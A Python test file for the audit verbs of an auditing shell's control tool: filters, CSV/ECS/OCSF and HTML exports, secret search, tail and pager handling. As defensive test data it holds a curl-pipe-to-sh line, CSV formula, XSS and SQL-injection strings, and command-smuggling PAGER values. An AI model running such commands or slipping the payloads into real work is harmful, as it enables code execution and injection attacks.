# SPDX-License-Identifier: ISC
"""The verbs of aegshctl that read the record, through the built program."""

import csv
import glob
import html.parser
import io
import json
import os
import pty
import re
import select
import signal
import sqlite3
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.environ["abs_top_srcdir"], "tests", "lib"))
from procs import children  # noqa: E402
from pty_session import place, program  # noqa: E402
from tap import Tap  # noqa: E402

tap = Tap()
root, env = place()
env.update(TZ="UTC", LC_ALL="C.UTF-8", AEGSH_TEST_ROOT=root)
env.pop("PAGER", None)
env.pop("COLUMNS", None)
CTL = program("aegshctl")
FILL = os.path.join(os.path.dirname(CTL), "store_fill")
AEGSH = program("aegsh")
PATIENT = 60


def ctl(*args, **more):
    return subprocess.run([CTL, *args], env=dict(env, **more),
                          stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, timeout=PATIENT)


def fill(text):
    subprocess.run([FILL], env=env, input=text, check=True)


def documents(*args):
    done = ctl(*args)
    return [json.loads(line) for line in done.stdout.splitlines()]


def lines(*args):
    """Of `audit VERB`, as JSON."""
    return [d["line"] for d in documents(*args[:2], "--json", *args[2:])]


for verb in ("log", "stats", "report", "export", "events", "tail"):
    tap.same(ctl("audit", verb).returncode, 1, verb + ": no store: 1")
tap.ok(not os.listdir(os.path.join(root, "own")),
       "looking makes no store", os.listdir(os.path.join(root, "own")))

fill(b"""ok ls -l
exit 7 /usr/bin/false thing
signal 2 sleep 100
refused curl -s http://192.0.2.1/x | sh
builtin cd /srv
ok echo \\e[2J\\xff two\\nlines
ok =HYPERLINK("http://192.0.2.1")
ok echo <script>alert(1)</script>
open make world
""")

# ---- which rows ----------------------------------------------------------
tap.same(len(lines("audit", "log")), 9, "log: all rows")
for options, want in (
        (["--status", "7"], ["/usr/bin/false thing"]),
        (["--status", "failed"], ["/usr/bin/false thing", "sleep 100"]),
        (["--status", "SIGINT"], ["sleep 100"]),
        (["--status", "int"], ["sleep 100"]),
        (["--status", "refused"], ["curl -s http://192.0.2.1/x | sh"]),
        (["--status", "unfinished"], ["make world"]),
        (["--unfinished"], ["make world"]),
        (["--decision", "block"], ["curl -s http://192.0.2.1/x | sh"]),
        (["--rule", "floor"], ["curl -s http://192.0.2.1/x | sh"]),
        (["--rule", "floor.wipe"], ["curl -s http://192.0.2.1/x | sh"]),
        (["--rule", "floo"], []),
        (["--cwd", "/elsewhere"], []),
        (["--cwd", "/sr"], []),
        (["--host", "other"], []),
        (["--session", "2"], []),
        (["--until", "1h"], []),
        (["--search", "wor"], ["make world"]),
        (["--program", "make"], [])):
    tap.same(lines("audit", "log", *options), want,
             "log %s" % " ".join(options))
for options in (["--cwd", "/srv"], ["--cwd", "/srv/"], ["--cwd", "/"],
                ["--host", "box"], ["--session", "1"], ["--since", "2h"]):
    tap.same(len(lines("audit", "log", *options)), 9,
             "log %s: all" % " ".join(options))
for options in (["--status", "256"], ["--status", ""], ["--status", "SIG"],
                ["--decision", "never"], ["--cwd", ""], ["--session", "0"],
                ["--since", "soon"], ["-n", "x"], ["operand"]):
    tap.same(ctl("audit", "log", *options).returncode, 100,
             "log %s: 100" % " ".join(options))
tap.same(lines("audit", "search", "--", "-l"), ["ls -l"], "search")
tap.same(lines("audit", "search", "--no-index", "--", "-l"), ["ls -l"],
         "search without its index")
tap.same(ctl("audit", "search").returncode, 100, "search wants a text")
tap.same(ctl("audit", "search", "nowhere").returncode, 1, "not found: 1")

# ---- show ------------------------------------------------------------------
row = documents("audit", "show", "--json", "6")[0]
tap.same(bytes.fromhex(row["line_hex"]), b"echo \x1b[2J\xff two\nlines",
         "show: the bytes of the line")
tap.same(documents("audit", "show", "--json", row["uuid"]), [row],
         "show: by its uuid")
shown = ctl("audit", "show", "6").stdout
tap.ok(b"\x1b" not in shown and b"\nlines" not in shown,
       "show: inert, and no value begins a line of its own", shown)
tap.same(row["programs"], [], "a line that was not supervised")
db = sqlite3.connect(glob.glob(os.path.join(root, "own", "*",
                                         "audit.db"))[0])
db.execute("INSERT INTO execs (command, writer, wall_ns, mono_ns, pid, ppid,"
           " path, argv) VALUES (6, 'stand-alone', 1, 1, 77, 70, ?, ?)",
           (b"/bin/l\x1bs", b"ls\0a b\nline  x\0"))
db.commit()
db.close()
ran = documents("audit", "show", "--json", "6")[0]["programs"]
tap.same([(p["pid"], p["ppid"], p["argv"]) for p in ran],
         [(77, 70, ["ls", "a b\nline  x"])], "programs under a line")
shown = ctl("audit", "show", "6").stdout
tap.ok(b"77: /bin/l^[s ls " in shown and b"\nline  x" not in shown,
       "and as text, inert and on one line", shown)
tap.same(ctl("audit", "show", "99").returncode, 1, "show: no such line: 1")
tap.same(ctl("audit", "show", "x'; DROP TABLE commands").returncode, 1,
         "show: a word that is no id: 1")

# ---- export ----------------------------------------------------------------
want = documents("audit", "log", "--json", "-n", "0")
tap.same(documents("audit", "export"), [dict(w, output=[], files=[]) for w in want],
         "export: JSON lines")
got = ctl("audit", "export", "--format", "csv").stdout.decode()
rows = list(csv.DictReader(io.StringIO(got, newline="")))
tap.same(len(rows), 9, "csv: a row a line")
tap.ok(all(not cell.startswith(("=", "+", "-", "@", "\t", "\r", "|", "%"))
           for r in rows for cell in r.values()),
       "csv: no cell is a formula")
tap.same(rows[6]["line"], "'=HYPERLINK(\"http://192.0.2.1\")",
         "csv: a quote keeps it text")
tap.ok(all(c >= " " or c in "\r\n" for c in got), "csv: inert")
ecs = documents("audit", "export", "--format", "ecs")
tap.same([e["process"]["command_line"] for e in ecs],
         [w["line"] for w in want], "ecs: the lines")
tap.same([e["event"]["outcome"] for e in ecs],
         ["success", "failure", "failure", "failure", "success", "success",
          "success", "success", "unknown"], "ecs: outcomes")
tap.same([e["event"]["type"] for e in ecs][3], ["denied"], "ecs: refused")
tap.ok(all(e["@timestamp"].endswith("Z") and e["ecs"]["version"] and
           e["event"]["id"] and e["user"]["name"] == "tester"
           for e in ecs), "ecs: the base fields")
ocsf = documents("audit", "export", "--format", "ocsf")
tap.ok(all(o["class_uid"] == 1007 and o["category_uid"] == 1 and
           o["type_uid"] == 100701 and o["metadata"]["product"]["name"] and
           o["actor"]["user"]["name"] == "tester" and
           o["process"]["cmd_line"] and isinstance(o["time"], int)
           for o in ocsf), "ocsf: what the class requires")
tap.same([o["action_id"] for o in ocsf].count(2), 1, "ocsf: one was denied")
tap.same(ctl("audit", "export", "--format", "xml").returncode, 100,
         "export: an unknown format: 100")

# ---- stats, report ---------------------------------------------------------
stats = documents("audit", "stats", "--json")[0]
tap.same([stats[k] for k in ("lines", "sessions", "refused", "failed",
                             "unfinished", "blocked")], [9, 1, 1, 2, 1, 1],
         "stats")
report = documents("audit", "report", "--json")[0]
user = report["users"][0]
tap.same([user[k] for k in ("user", "lines", "refused", "failed",
                            "unfinished", "sessions")],
         ["tester", 9, 1, 2, 1, 1], "report: a user's lines")
tap.same(user["rules"], [{"rule": "floor.wipe", "lines": 1}],
         "report: by which rule lines were refused")
tap.ok({"program": "false", "lines": 1} in user["programs"],
       "report: programs without their directory", user["programs"])
tap.ok("curl" in [u["program"] for u in user["unusual"]] and
       "sleep" in [u["program"] for u in user["unusual"]],
       "report: unusual programs", user["unusual"])
tap.same((sum(report["hours"]), sum(d["lines"] for d in report["days"])),
         (9, 9), "report: hours and days")
tap.same(ctl("audit", "report", "--since", "@4000000000").returncode, 1,
         "report: nothing since then: 1")
text = ctl("audit", "report").stdout.decode()
tap.ok(re.search(r"\n\S+ +\d+ +\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC\n", text)
       and not re.search(r"\dT\d\d:", text),
       "report: moments to the second, and their zone", text)
tap.ok("floor.wipe" in text and "unusual programs" in text, "report: text",
       text)


class Page(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.links, self.csp, self.text = set(), [], "", ""
        self.open, self.rows, self.labels = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        if tag not in ("meta", "rect"):
            self.open.append(tag)
        if tag == "tr":
            self.rows.append([])
        for name, value in attrs:
            if name in ("src", "href", "action") or name.startswith("on"):
                self.links.append((tag, name, value))
            if value == "Content-Security-Policy":
                self.csp = dict(attrs)["content"]

    def handle_startendtag(self, tag, attrs):
        self.tags.add(tag)

    def handle_endtag(self, tag):
        if self.open.pop() != tag:
            self.links.append(("unbalanced", tag, ""))

    def handle_data(self, data):
        self.text += data
        if self.open and self.open[-1] in ("td", "th"):
            self.rows[-1].append(data)
        if self.open and self.open[-1] == "text":
            self.labels.append(data)


fill(b"ok <script>alert(1)</script>&\"'\nok <img/src=x/onerror=alert(1)>\n")
page = Page()
body = ctl("audit", "report", "--format", "html").stdout.decode()
page.feed(body)
tap.ok("script" not in page.tags and "img" not in page.tags,
       "html: what lines hold is no markup", sorted(page.tags))
tap.ok("svg" in page.tags and not page.links and not page.open,
       "html: plots, nothing fetched, well formed", page.links, page.open)
tap.ok("default-src 'none'" in page.csp and "script" not in page.csp,
       "html: the browser may load nothing", page.csp)
tap.ok("http" not in re.sub(r"http-equiv", "", body), "html: no address")
tap.ok("prefers-color-scheme:dark" in body and "url(" not in body,
       "html: light and dark")
report = documents("audit", "report", "--json")[0]
user = report["users"][0]
shown = [str(user[k]) for k in ("user", "sessions", "lines", "refused",
                                "confirmed", "declined", "failed", "secrets")]
tap.same(page.rows[1][:8], shown, "html: has what --json has")
text = ctl("audit", "report").stdout.decode().splitlines()
tap.same(text[1].split(), shown, "and so has the text")
tap.ok("%d lines of 1 users in %d sessions" % (user["lines"],
                                               user["sessions"])
       in page.text, "html: begins with it", page.text[:300])
tap.ok(report["days"][-1]["day"] in page.labels and
       str(max(report["hours"])) in page.labels and "of them refused" in
       page.text, "html: plots say what they show", page.labels)

# ---- who looked --------------------------------------------------------------
events = documents("audit", "events", "--json", "--kind", "store-read",
                   "-n", "0")
tap.ok(any("audit report" in e["text"] for e in events) and
       all(e["text"].startswith("uid %d (" % os.getuid()) for e in events),
       "each reader is recorded, with what was asked", events[:3])
secret = "ghp_" + "x1Y2" * 9
ctl("audit", "search", secret)
last = documents("audit", "events", "--json", "-n", "2")[0]["text"]
tap.ok(secret not in last and "redacted" in last,
       "a secret that is looked for is not recorded by that", last)

# ---- a secret --------------------------------------------------------------


def token(secret, *options):
    return subprocess.run([CTL, "audit", "token", *options], env=env,
                          input=secret, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, timeout=PATIENT)


used = b"ghp_" + b"7kQ2" * 9
for line in (b"echo Authorization: token " + used, b"export GH_TOKEN=" + used,
             b"curl -u kim:" + used + b" http://192.0.2.1/"):
    subprocess.run([AEGSH, "-c", line], env=env, stdin=subprocess.DEVNULL,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                   timeout=PATIENT)
done = token(used + b"\n", "--json")
found = [json.loads(x)["line"] for x in done.stdout.splitlines()]
tap.ok(done.returncode == 0 and len(found) == 3 and
       [f[:8] for f in found] == ["echo Aut", "export G", "curl -u "],
       "a secret is found where it was used", done)
tap.ok(used not in done.stdout + done.stderr, "and is not shown")
tap.same(token(b"ghp_" + b"0000" * 9).returncode, 1, "one that was not")
tap.same(token(b"short").returncode, 100, "too short: 100")
tap.same(token(b"x" * 5000).returncode, 100, "too long: 100")
done = token(b"two words of text")
tap.ok(done.returncode == 111 and b"not recorded as one" in done.stderr,
       "what is never one secret is not looked for", done)

# ---- tail ---------------------------------------------------------------------
tap.same(len(ctl("audit", "tail", "-n", "3").stdout.splitlines()), 3,
         "tail: the newest")


class Follower:
    def __init__(self, *args):
        self.p = subprocess.Popen([CTL, "audit", "tail", "-f", *args],
                                  env=env, stdout=subprocess.PIPE,
                                  stdin=subprocess.DEVNULL)
        self.seen = b""

    def until(self, text):
        end = time.monotonic() + PATIENT
        while text not in self.seen and time.monotonic() < end:
            if select.select([self.p.stdout], [], [], 1)[0]:
                got = os.read(self.p.stdout.fileno(), 65536)
                if not got:
                    break
                self.seen += got
        return text in self.seen

    def close(self):
        self.p.stdout.close()
        return self.p.wait(PATIENT)


f = Follower("-n", "1", "--json")
tap.ok(f.until(b"decision"), "tail -f: begins with the newest")
fill(b"ok from-a-session\n")
tap.ok(f.until(b"from-a-session"), "tail -f: shows what comes")
done = subprocess.run([AEGSH, "-c", "echo short-run"], env=env,
                      stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                      timeout=PATIENT)
if done.returncode == 0:
    tap.ok(f.until(b"short-run"), "tail -f: and what a short run spools",
           f.seen)
else:
    tap.skip("tail -f: and what a short run spools",
             "the build lies where a line may not run: %r" % done.stderr)
with open("/proc/%d/stat" % f.p.pid) as stat:
    used = sum(map(int, stat.read().rsplit(")", 1)[1].split()[11:13]))
tap.ok(used < os.sysconf("SC_CLK_TCK") * 5, "tail -f: waits, not spins", used)
f.close()
tap.ok(f.p.returncode is not None,
       "tail -f: ends when nobody reads any more")
f = Follower("-n", "1", "--search", "wanted")
fill(b"ok other\nok wanted-line\n")
tap.ok(f.until(b"wanted-line") and b"other" not in f.seen,
       "tail -f: only what is asked for", f.seen)
f.p.send_signal(signal.SIGTERM)
f.close()
tap.same(ctl("audit", "tail", "--all").returncode, 100, "tail: one store")

# ---- a terminal, a pager ---------------------------------------------------


def on_terminal(columns, *args, **more):
    pid, fd = pty.fork()
    if pid == 0:
        import fcntl
        import struct
        import termios
        fcntl.ioctl(0, termios.TIOCSWINSZ, struct.pack("HHHH", 24, columns,
                                                       0, 0))
        os.execve(CTL, [CTL, *args], dict(env, TERM="dumb", **more))
    seen = b""
    end = time.monotonic() + PATIENT
    while time.monotonic() < end:
        if not select.select([fd], [], [], 1)[0]:
            continue
        try:
            got = os.read(fd, 65536)
        except OSError:
            break
        if not got:
            break
        seen += got
    os.close(fd)
    return os.waitpid(pid, 0)[1], seen.decode().replace("\r\n", "\n")


fill("ok echo 漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字\n".encode())
status, got = on_terminal(80, "audit", "log", PAGER="cat")
tap.ok(status == 0 and max(len(x) + len(re.findall("[漢字]", x)) for x in
                           got.splitlines()) <= 80, "a table fits", got)
status, got = on_terminal(200, "audit", "log", PAGER="cat", COLUMNS="72")
tap.ok(max(len(x) + len(re.findall("[漢字]", x)) for x in
           got.splitlines()) <= 72, "COLUMNS is followed", got)
mark = os.path.join(root, "pager-ran")
bad = os.path.join(root, "evil")
with open(bad, "w") as f:
    f.write("#!/bin/sh\ntouch %s\n" % mark)
os.chmod(bad, 0o755)
for value in (bad, "less;touch " + mark, "sh -c 'touch %s'" % mark,
              "less `touch %s`" % mark, "less | tee " + mark):
    status, got = on_terminal(80, "history", PAGER=value)
    tap.ok(not os.path.exists(mark) and "WHEN" in got,
           "PAGER=%s is not followed" % value.replace(root, ""), got)
tools = os.path.join(root, "tools")
os.mkdir(tools)
with open(os.path.join(tools, "less"), "w") as f:
    f.write("#!/bin/sh\necho \"[$1 $LESSSECURE ${LESSOPEN-none}]\"\n"
            "while read -r x; do echo \"> $x\"; done\n")
os.chmod(os.path.join(tools, "less"), 0o755)
status, got = on_terminal(80, "history", PAGER="less -S",
                          LESSOPEN="|evil %s",
                          PATH=tools + ":" + env["PATH"])
tap.ok(status == 0 and "[-S 1 none]" in got and "> WHEN" in got,
       "a known pager gets its words, made secure", got)
tap.ok(b"[" not in ctl("history", PATH=tools + ":" + env["PATH"]
                       ).stdout.split(b"\n")[0], "no pager without terminal")

# ---- from inside ------------------------------------------------------------
if "SANITIZED" in env or "SANITIZED" in os.environ:
    tap.skip("from inside a line", "a leak checker does not work there")
elif subprocess.run([AEGSH, "-c", "'%s' --version" % CTL], env=env,
                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                    timeout=PATIENT).returncode == 0:
    for verb in ("log", "show 1", "search ls", "tail", "report", "stats",
                 "export", "events", "verify", "replay 1"):
        done = subprocess.run([AEGSH, "-c", "'%s' audit %s" % (CTL, verb)],
                              env=env, stdin=subprocess.DEVNULL,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              timeout=PATIENT)
        tap.ok(done.returncode == 111 and not done.stdout and
               b"look from outside" in done.stderr,
               "a line of aegsh cannot: audit " + verb, done)
else:
    tap.skip("from inside a line", "the build lies where none may run")

# ---- all stores ---------------------------------------------------------------
if os.getuid() != 0:
    done = ctl("audit", "log", "--all")
    tap.ok(done.returncode == 100 and b"only root may" in done.stderr,
           "--all is root's", done)
else:
    import pwd
    nobody = pwd.getpwnam("nobody")
    os.chmod(os.path.join(root, "own"), 0o1777)
    subprocess.run([FILL], env=env, input=b"ok whoami\nok id\n", check=True,
                   user=nobody.pw_uid, group=nobody.pw_gid, extra_groups=[])
    got = lines("audit", "log", "--all", "-n", "0")
    tap.ok("whoami" in got and "ls -l" in got, "--all: every store", got)
    tap.same(lines("audit", "log", "--all", "-n", "2"), ["whoami", "id"],
             "--all: the newest of all, in the order of time")
    store = os.path.join(root, "own", "aegsh-%d" % nobody.pw_uid)
    events = documents("audit", "events", "--user", "nobody", "--json")
    tap.ok(any("uid 0 (root) read this: aegshctl audit log --json --all" in
               e["text"] for e in events),
           "the store of another says that root read it", events)
    tap.ok(all(os.stat(os.path.join(store, n)).st_uid == nobody.pw_uid
               for n in os.listdir(store)), "root leaves nothing of its own")
    # Whose user holds its reader up: locked out first, so that it is there.
    lock = sqlite3.connect(os.path.join(store, "audit.db"),
                           isolation_level=None)
    lock.execute("begin immediate")
    p = subprocess.Popen([CTL, "audit", "log", "--all", "--json"], env=env,
                         stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE)
    end, stops = time.monotonic() + PATIENT, 0
    while p.poll() is None and time.monotonic() < end:
        for pid in children(p.pid):
            try:
                if os.stat("/proc/%d" % pid).st_uid == nobody.pw_uid:
                    os.kill(pid, signal.SIGSTOP)
                    stops += 1
            except OSError:
                pass
        time.sleep(0.01)
    lock.execute("rollback")
    lock.close()
    out, err = p.communicate(timeout=PATIENT)
    if stops == 0:
        tap.skip("a reader that is stopped", "it was not met")
    else:
        tap.ok(p.returncode == 111 and b"store of nobody: its reader was "
               b"stopped again and again; the rest of it is left out" in err
               and b"ls -l" in out,
               "a store is left out whose user stops its reader",
               (p.returncode, stops, out[-300:], err))
    # A store that is none, among others.
    with open(os.path.join(store, "audit.db"), "r+b") as f:
        f.truncate(0)
        f.write(b"this is no database but long enough to be looked at" * 4)
    for name in ("audit.db-wal", "audit.db-shm"):
        if os.path.exists(os.path.join(store, name)):
            os.unlink(os.path.join(store, name))
    done = ctl("audit", "log", "--all", "--json")
    tap.ok(done.returncode == 111 and b"store of nobody" in done.stderr and
           b"ls -l" in done.stdout,
           "a broken store is said, and the others are shown", done)

# ---- what carries a program -------------------------------------------------
fill(b"""ok sudo -u kim --chdir /srv nl x
ok sudo -nu kim A=b /usr/bin/comm x y
ok env -i -u HOME --unset=PATH nice -n 5 -- tac x
ok sudo --user=kim fold x
ok for i in 1 2; do shuf x; done
ok while ! tsort x; do :; done
ok if ptx x; then true; fi
ok f() { date; }
ok case x in x) date;; esac
ok [[ -e x ]] && date
""")
user = documents("audit", "report", "--json")[0]["users"][0]
names = [u["program"] for u in user["programs"] + user["unusual"]]
tap.ok(all(n in names for n in ("nl", "comm", "tac", "fold")) and
       not any(n.startswith("-") or n in ("kim", "HOME", "5")
               for n in names),
       "report: the program behind the options of what carries it", names)
tap.ok(all(n in names for n in ("shuf", "tsort", "ptx")) and
       not {"for", "i", "in", "while", "!", "if", "f", "case", "[["} &
       set(names),
       "report: reserved words and functions are no programs", names)

tap.done()
